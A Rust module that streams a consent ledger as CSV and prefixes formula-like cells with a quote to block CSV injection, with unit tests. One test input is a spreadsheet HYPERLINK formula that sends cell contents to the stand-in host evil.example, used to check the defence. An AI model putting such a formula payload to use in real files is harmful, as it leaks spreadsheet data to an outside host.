//! `GET /api/v1/consents?format=csv`: the ledger as CSV, streamed page by page so memory stays
//! flat however big the ledger is, in ledger (insertion) order.
//!
//! Cells are written by the `csv` crate (quoting, embedded quotes and newlines), and any text
//! cell a spreadsheet would run as a formula (starting with `=`, `+`, `-`, `@`, a tab or a
//! carriage return, as OWASP's CSV-injection guidance lists) is prefixed with a single quote,
//! so an evidence of `=HYPERLINK(…)` shows as text when an auditor opens the file.

use std::borrow::Cow;
use std::sync::Arc;

use axum::body::{Body, Bytes};
use axum::http::header;
use axum::response::{IntoResponse, Response};
use futures_util::StreamExt;
use futures_util::stream;

use crate::consent::Record;
use crate::http::error::ApiError;
use crate::store::Store;

/// Records fetched per store query.
pub const PAGE: u32 = 500;

const HEADER: [&str; 9] = [
    "at",
    "sender_id",
    "subject",
    "wa_id",
    "user_id",
    "category",
    "action",
    "source",
    "evidence",
];

/// The export's response. The first page is read before answering, so a store that is down
/// gets the usual 503 rather than a cut-off file; a failure on a later page ends the stream
/// with an error, which aborts the transfer (the client sees an incomplete body, never a
/// short file that looks whole).
pub async fn csv(
    store: Arc<dyn Store>,
    subject: Option<String>,
    page: u32,
) -> Result<Response, ApiError> {
    let first = store
        .consent_records_after(subject.as_deref(), 0, page)
        .await?;
    let head = encode(std::iter::once(HEADER.map(Cow::Borrowed)))?;
    let first_bytes = encode(first.iter().map(|(_, r)| row(r)))?;
    let next = next_cursor(&first, page);
    let rest = stream::unfold(next, move |cursor| {
        let (store, subject) = (store.clone(), subject.clone());
        async move {
            let after = cursor?;
            let page_result = store
                .consent_records_after(subject.as_deref(), after, page)
                .await
                .map_err(|e| {
                    tracing::error!(error.message = %e, after_id = after, "Consent export stopped: the store failed mid-stream.");
                    std::io::Error::other(e.to_string())
                })
                .and_then(|rows| {
                    let bytes = encode(rows.iter().map(|(_, r)| row(r)))
                        .map_err(|e| std::io::Error::other(e.message))?;
                    Ok((bytes, next_cursor(&rows, page)))
                });
            match page_result {
                Ok((bytes, next)) => Some((Ok(bytes), next)),
                // `None` as the next cursor: the stream ends after reporting the error.
                Err(e) => Some((Err(e), None)),
            }
        }
    });
    let body = stream::iter([Ok::<_, std::io::Error>(head), Ok(first_bytes)]).chain(rest);
    Ok((
        [
            (header::CONTENT_TYPE, "text/csv; charset=utf-8"),
            (
                header::CONTENT_DISPOSITION,
                "attachment; filename=\"consents.csv\"",
            ),
        ],
        Body::from_stream(body),
    )
        .into_response())
}

/// The last id of a full page; `None` when this page was the last.
fn next_cursor(rows: &[(i64, Record)], page: u32) -> Option<i64> {
    if rows.len() < page as usize {
        None
    } else {
        rows.last().map(|(id, _)| *id)
    }
}

fn row(r: &Record) -> [Cow<'_, str>; 9] {
    [
        Cow::Owned(crate::time::display(r.at)),
        neutralise(&r.sender_id),
        neutralise(&r.subject),
        neutralise(r.wa_id.as_deref().unwrap_or("")),
        neutralise(r.user_id.as_deref().unwrap_or("")),
        Cow::Borrowed(r.category.as_str()),
        Cow::Borrowed(r.action.as_str()),
        neutralise(&r.source),
        neutralise(&r.evidence),
    ]
}

/// Prefixes a cell a spreadsheet would evaluate with `'`, which makes it text.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

fn encode<'a>(rows: impl Iterator<Item = [Cow<'a, str>; 9]>) -> Result<Bytes, ApiError> {
    let failed = |e: &dyn std::fmt::Display| {
        tracing::error!(error.message = %e, "Writing a consent CSV row failed.");
        ApiError::new(
            axum::http::StatusCode::INTERNAL_SERVER_ERROR,
            "internal",
            "the CSV export failed; the server log has the details",
        )
    };
    let mut w = csv::Writer::from_writer(Vec::new());
    for r in rows {
        w.write_record(r.iter().map(|c| c.as_ref()))
            .map_err(|e| failed(&e))?;
    }
    w.into_inner().map(Bytes::from).map_err(|e| failed(&e))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::consent::{Action, Category};

    fn record(evidence: &str) -> Record {
        Record {
            sender_id: "100000000000001".into(),
            subject: "919876543210".into(),
            wa_id: Some("919876543210".into()),
            user_id: Some("@bsuid".into()),
            category: Category::Marketing,
            action: Action::OptIn,
            source: "api".into(),
            evidence: evidence.into(),
            at: 1_767_225_600_000,
        }
    }

    #[test]
    fn formula_cells_are_neutralised_and_parse_back() {
        let dangerous = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
            "form 7, \"quoted\"\nsecond line",
        ];
        let records: Vec<Record> = dangerous.iter().map(|e| record(e)).collect();
        let bytes = encode(records.iter().map(row)).unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&bytes[..]);
        let parsed: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(parsed.len(), dangerous.len());
        for (rec, evidence) in parsed.iter().zip(dangerous) {
            let expected = if evidence.starts_with("form") {
                evidence.to_string()
            } else {
                format!("'{evidence}")
            };
            assert_eq!(&rec[8], expected);
            assert_eq!(&rec[4], "'@bsuid");
            assert_eq!(&rec[2], "919876543210");
        }
    }

    #[test]
    fn ordinary_cells_are_left_alone() {
        assert_eq!(neutralise("website form 12"), "website form 12");
        assert_eq!(neutralise("919876543210"), "919876543210");
        assert_eq!(neutralise(""), "");
        assert_eq!(neutralise("a=b"), "a=b");
    }
}
